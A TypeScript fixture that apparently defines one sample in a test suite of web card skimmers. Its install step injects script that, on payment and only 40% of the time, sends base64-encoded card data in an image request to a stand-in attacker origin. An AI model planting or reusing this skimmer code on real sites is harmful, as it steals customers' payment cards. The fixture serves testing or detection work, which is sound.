import { holds, js, skimmer } from '../behaviour.ts';
import { base64, query } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

export default skimmer({
  id: 'sample-40',
  why: 'Strikes two customers in five: who looks once may see nothing (15 of 88 samples draw lots or wait).',
  covers: ['trigger: sample'],
  base: 'direct',
  rare: true,
  install: (site) =>
    site.append(
      js`if (Math.random() < 0.4) ${onPay(js`new Image().src = '${site.origins.evil}/r.gif?d=' + encodeURIComponent(btoa(card()));`)}`,
    ),
  proof: holds((arrived) => query(arrived, 'd').map(base64)),
});
